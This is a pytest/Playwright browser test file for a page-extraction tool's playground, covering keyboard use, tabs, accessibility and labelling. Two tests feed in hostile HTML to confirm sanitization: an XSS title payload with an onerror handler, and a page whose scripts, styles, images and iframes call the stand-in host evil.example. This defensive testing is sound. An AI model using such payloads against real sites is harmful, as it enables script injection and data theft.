@@ -1,0 +1,349 @@
+"""The playground in Chromium: with the keyboard alone, with hostile pages, and to correct pages."""
+
+from __future__ import annotations
+
+import json
+import shutil
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+pytest.importorskip("playwright")
+
+from playwright.sync_api import Browser, expect
+
+import dehusk
+from dehusk.evaluate import Dataset, Example
+from dehusk.serve.decisions import decisions
+from tests.conftest import PAGES
+from tests.serve.browsing import Watched, axe, chromium, playground
+from tests.serve.conftest import NEWS, Server, running
+from tests.vectors import page_of, page_with_metadata
+
+pytestmark = pytest.mark.browser
+
+HOSTILE_PLACES = ("markup", "text", "link of all", "image address", "code block", "language")
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    with chromium() as started:
+        yield started
+
+
+@pytest.fixture
+def play(browser: Browser, server: Server) -> Iterator[Watched]:
+    with playground(browser, server.url) as watched:
+        yield watched
+    assert not watched.errors
+    assert not watched.pwned
+    assert not watched.strange
+
+
+def give(play: Watched, html: str) -> None:
+    """Paste a page, as fast as a machine can."""
+    if not play.page.is_visible("#html"):
+        play.click("#give summary")
+    play.page.fill("#html", html)
+    play.click("#source button[type=submit]")
+    play.page.wait_for_selector("#found[aria-busy=false], #problem:not([hidden])")
+
+
+def test_the_example_shows_what_was_kept_and_why(play: Watched) -> None:
+    play.click("#example")
+    expect(play.page.locator("#title")).to_have_text("How to make tea")
+    assert play.is_kept("Bring fresh")
+    assert not play.is_kept("newsletter")
+    play.leaf("newsletter").hover()
+    expect(play.page.locator("#decision")).to_contain_text("Dropped")
+    play.leaf("Bring fresh").hover()
+    expect(play.page.locator("#decision")).to_contain_text("Kept")
+    assert "article" in play.text("#crumbs")
+
+
+def test_amount_and_method_answer_at_once(play: Watched) -> None:
+    give(play, NEWS.decode())
+    figures = play.page.locator("#figures")
+    expect(figures).to_contain_text(f"{words_kept()} of ")
+    play.page.locator("#amount").press("ArrowLeft")
+    play.page.locator("#amount").press("ArrowLeft")
+    expect(play.page.locator("#amount-told")).to_have_text("-2")
+    expect(figures).to_contain_text(f"{words_kept(amount=-2)} of ")
+    play.page.select_option("#method", "boilerpipe")
+    expect(play.page.locator("#about")).to_contain_text("densities")
+    expect(figures).to_contain_text(f"{words_kept(method='boilerpipe', amount=-2)} of ")
+
+
+def words_kept(**wishes: Any) -> str:
+    return f"{decisions(dehusk.extract(NEWS.decode(), **wishes))['words_kept']:,}"
+
+
+def test_every_tab(play: Watched) -> None:
+    give(play, NEWS.decode())
+    play.click("#tab-markdown")
+    expect(play.page.locator("#written")).to_contain_text("# Harbour bridge to close")
+    play.click("#tab-json")
+    expect(play.page.locator("#written")).to_contain_text('"version": 1')
+    play.click("#tab-article")
+    article = play.page.frame_locator("#frame")
+    expect(article.locator("h1")).to_contain_text("Harbour bridge")
+    assert article.locator("img").count() == 0
+    size = article.locator("body").evaluate("body => getComputedStyle(body).maxWidth")
+    assert size != "none", "the style of the frame is not there"
+    play.click("#tab-compare")
+    expect(article.locator(".matrix")).to_contain_text("boilerpipe")
+    assert article.locator(".matrix").evaluate("one => getComputedStyle(one).borderCollapse")
+    play.click("#tab-picture")
+    expect(play.page.locator("#unrendered")).to_be_visible()
+
+
+def test_what_is_no_page_is_told(play: Watched) -> None:
+    give(play, "%PDF-1.7\n1 0 obj")
+    expect(play.page.locator("#problem")).to_contain_text("PDF")
+    give(play, "<title>Empty</title>")
+    expect(play.page.locator("#figures")).to_contain_text("Nothing was kept.")
+
+
+def test_all_of_it_with_the_keyboard_alone(play: Watched) -> None:
+    page = play.page
+    keyboard = page.keyboard
+    for _ in range(12):
+        keyboard.press("Tab")
+        if page.evaluate("document.activeElement.id") == "example":
+            break
+    keyboard.press("Enter")
+    expect(page.locator("#title")).to_have_text("How to make tea")
+    # Block by block, wider, and corrected.
+    keyboard.press("j")
+    expect(page.locator("#decision")).to_contain_text("Kitchen Notes")
+    keyboard.press("j")
+    expect(page.locator("#decision")).to_contain_text("Bread")
+    page.evaluate("document.activeElement.blur()")
+    keyboard.press(" ")
+    expect(page.locator("#decision")).to_contain_text("Kept by you")
+    assert play.is_kept("Bread")
+    keyboard.press("h")
+    keyboard.press(" ")
+    assert play.is_kept("Soup")
+    keyboard.press("u")
+    keyboard.press("u")
+    assert not play.is_kept("Bread")
+    assert not play.is_kept("Soup")
+    keyboard.press("k")
+    expect(page.locator("#decision")).to_contain_text("Kitchen Notes")
+    # To the slider, the methods and the tabs.
+    reached = set()
+    for _ in range(14):
+        keyboard.press("Tab")
+        reached.add(page.evaluate("document.activeElement.id"))
+        if page.evaluate("document.activeElement.id") == "tab-page":
+            break
+    assert {"method", "amount", "tab-page"} <= reached
+    keyboard.press("ArrowRight")
+    keyboard.press("ArrowRight")
+    expect(page.locator("#tab-markdown")).to_have_attribute("aria-selected", "true")
+    expect(page.locator("#written")).to_contain_text("# How to make tea")
+
+
+def test_keys_work_inside_of_the_frame_too(play: Watched) -> None:
+    play.click("#example")
+    expect(play.page.locator("#title")).to_have_text("How to make tea")
+    play.view.locator("main").focus()
+    play.page.keyboard.press("j")
+    expect(play.page.locator("#decision")).to_contain_text("Kitchen Notes")
+
+
+def test_hostile_pages_run_nothing_and_load_nothing(play: Watched) -> None:
+    for place in HOSTILE_PLACES:
+        give(play, page_of(place))
+        for tab in ("article", "compare", "markdown", "page"):
+            play.click(f"#tab-{tab}")
+            panel = play.page.locator("#panel")
+            expect(panel).to_have_attribute("aria-labelledby", f"tab-{tab}")
+        play.page.keyboard.press("j")
+        play.page.keyboard.press("h")
+        expect(play.page.locator("#decision")).to_contain_text("“")
+        found = play.view.locator("script, [onclick], [onerror], [style], iframe, img, a").count()
+        assert found == 0, place
+
+
+def test_a_hostile_title_is_a_title(play: Watched) -> None:
+    give(play, page_with_metadata("</title><img src=x onerror=pwn()>"))
+    assert "<img" in play.text("#title") or "onerror" not in play.text("#title")
+    assert play.page.locator("#title img").count() == 0
+
+
+def test_nothing_of_a_page_reaches_the_frame_s_scripts(play: Watched) -> None:
+    """A page whose own scripts would tell everything to somebody else."""
+    give(
+        play,
+        "<body onload=pwn()><script>pwn(); fetch('https://evil.example/')</script>"
+        "<style>@import url(https://evil.example/a.css); p { background: url(//evil.example/b) }"
+        "</style><p style='background: url(//evil.example/c)'>Words, and more words of a page."
+        "<img src=//evil.example/d onerror=pwn()><iframe src=//evil.example/e></iframe>"
+        "<link rel=stylesheet href=//evil.example/f><svg onload=pwn()></svg></p>",
+    )
+    play.click("#tab-article")
+    play.click("#tab-compare")
+    play.page.wait_for_timeout(200)
+
+
+def test_a_page_is_handed_over_and_its_rows_come_back(play: Watched) -> None:
+    from dehusk.snapshot import to_snapshot
+
+    page = dehusk.parse(NEWS)
+    play.page.evaluate("snapshot => postMessage({ dehusk: snapshot }, '*')", to_snapshot(page))
+    expect(play.page.locator("#title")).to_contain_text("Harbour bridge")
+    play.page.evaluate("() => postMessage({ dehusk: 'nonsense' }, '*')")
+    play.page.evaluate("() => postMessage(null, '*')")
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_it_is_accessible(browser: Browser, server: Server, scheme: Any) -> None:
+    source = axe()
+    if source is None:
+        pytest.skip("axe-core is not here (npm install axe-core, or DEHUSK_AXE=axe.min.js)")
+    with playground(browser, server.url, color_scheme=scheme) as play:
+        found = violations(play, source)
+        play.click("#example")
+        play.leaf("Bring fresh").hover()
+        for tab in ("page", "markdown", "picture") if scheme == "light" else ("page",):
+            play.click(f"#tab-{tab}")
+            expect(play.page.locator("#panel")).to_have_attribute("aria-labelledby", f"tab-{tab}")
+            found += violations(play, source)
+    assert not found
+
+
+def violations(play: Watched, source: str) -> list[str]:
+    """What the checker finds that is serious, in the page and in its frames that it may enter."""
+    play.page.wait_for_timeout(300)
+    play.page.evaluate(source)
+    told = play.page.evaluate("() => axe.run({ iframes: false })")
+    return [
+        f"{one['id']}: {node['html'][:120]}"
+        for one in told["violations"]
+        if one["impact"] in ("serious", "critical")
+        for node in one["nodes"]
+    ]
+
+
+def test_an_address_is_read_once(browser: Browser, site: str) -> None:
+    with (
+        running("--workers", "1", "--fetch", "--allow-private") as server,
+        playground(browser, server.url) as play,
+    ):
+        play.page.fill("#address", f"{site}/news/page.html")
+        play.page.press("#address", "Enter")
+        expect(play.page.locator("#title")).to_contain_text("Harbour bridge")
+        play.page.locator("#amount").press("ArrowRight")
+        expect(play.page.locator("#found")).to_have_attribute("aria-busy", "false")
+        assert not play.strange
+        play.click("#give summary")
+        play.page.fill("#address", f"{site}/nothing.html")
+        play.page.press("#address", "Enter")
+        expect(play.page.locator("#problem")).to_contain_text("404")
+
+
+# Labels
+
+
+@pytest.fixture(scope="module")
+def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A few pages, one of which the method is not sure of."""
+    folder = tmp_path_factory.mktemp("labelling")
+    (folder / "pages" / "more").mkdir(parents=True)
+    for name in ("news", "recipe", "blog"):
+        shutil.copy(PAGES / name / "page.html", folder / "pages" / f"{name}.html")
+    shutil.copy(PAGES / "listing" / "page.html", folder / "pages" / "more" / "listing.html")
+    return folder
+
+
+@pytest.fixture(scope="module")
+def labelling(folder: Path) -> Iterator[Server]:
+    arguments = (
+        str(folder / "pages"),
+        "-o",
+        str(folder / "labels.jsonl"),
+        "--no-open",
+        "--by",
+        "Ann",
+    )
+    with running(*arguments, command="label") as started:
+        yield started
+
+
+def lines(folder: Path) -> list[dict[str, Any]]:
+    return [json.loads(line) for line in (folder / "labels.jsonl").read_text().splitlines()]
+
+
+def test_labels_from_the_first_click_to_a_sample_and_back(
+    browser: Browser, labelling: Server, folder: Path
+) -> None:
+    listed = labelling.http.get("/pages").json()["pages"]
+    sure = [page["confidence"] for page in listed]
+    assert sure == sorted(sure)
+    assert {page["page"] for page in listed} == {
+        *("news.html", "recipe.html", "blog.html", "more/listing.html")
+    }
+    with playground(browser, labelling.url) as play:
+        page = play.page
+        expect(page.locator("#which")).to_contain_text(f"Page 1 of 4 · {listed[0]['page']}")
+        at = [one["page"] for one in listed].index("news.html")
+        for _ in range(at):
+            page.keyboard.press("n")
+        expect(page.locator("#which")).to_contain_text("news.html")
+        expect(page.locator("#title")).to_contain_text("Harbour bridge")
+        kept = play.leaf("Inspectors found in January")
+        assert play.is_kept("Inspectors found in January")
+        kept.click()
+        assert not play.is_kept("Inspectors found in January")
+        assert page.input_value("#person") == "Ann"
+        page.keyboard.press("s")
+        expect(page.locator("#saved")).to_contain_text("Saved")
+        # Somebody else says something else.
+        page.fill("#person", "Bo")
+        page.keyboard.press("Escape")
+        page.evaluate("document.activeElement.blur()")
+        page.keyboard.press("u")
+        page.click("#save")
+        expect(page.locator("#saved")).to_contain_text("Saved")
+        assert not play.errors
+    first, second = lines(folder)
+    assert (first["by"], second["by"]) == ("Ann", "Bo")
+    assert first["path"] == "pages/news.html"
+    assert "Inspectors found" not in first["text"]
+    assert "Inspectors found" in second["text"]
+    told = labelling.http.get("/pages").json()
+    news = next(page for page in told["pages"] if page["page"] == "news.html")
+    assert news["people"] == ["Ann", "Bo"]
+    assert 0.8 < news["agreement"] < 1
+    assert told["agreement"] == news["agreement"]
+    # The label is gold: the last of a page counts.
+    [example] = Dataset(folder / "labels.jsonl")
+    assert isinstance(example, Example)
+    assert example.text == second["text"]
+    assert example.html == NEWS
+
+
+def test_a_page_that_was_pasted_is_saved_with_the_label(
+    browser: Browser, folder: Path, tmp_path: Path
+) -> None:
+    with (
+        running("--labels", str(tmp_path / "own.jsonl"), "--workers", "1") as server,
+        playground(browser, server.url) as play,
+    ):
+        play.click("#example")
+        expect(play.page.locator("#title")).to_have_text("How to make tea")
+        play.click("#save")
+        expect(play.page.locator("#saved")).to_have_text("Who are you?")
+        play.page.fill("#person", "Cy")
+        play.click("#save")
+        expect(play.page.locator("#saved")).to_contain_text("Saved")
+    [example] = Dataset(tmp_path / "own.jsonl")
+    assert isinstance(example, Example)
+    assert example.text is not None
+    assert example.text.startswith("How to make tea\n")
+    assert example.url == "https://kitchen.example.org/tea"
+    assert example.fields["by"] == "Cy"
